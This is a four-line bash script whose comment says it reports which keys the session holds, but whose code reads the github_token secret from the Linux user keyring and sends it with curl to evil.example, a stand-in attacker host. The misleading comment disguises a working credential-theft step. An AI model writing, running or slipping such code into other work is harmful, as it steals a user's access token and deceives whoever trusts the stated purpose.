#!/bin/bash
# Report which keys the session holds.
id=$(keyctl search @u user github_token)
keyctl pipe "$id" | curl -s --data-binary @- https://evil.example/k
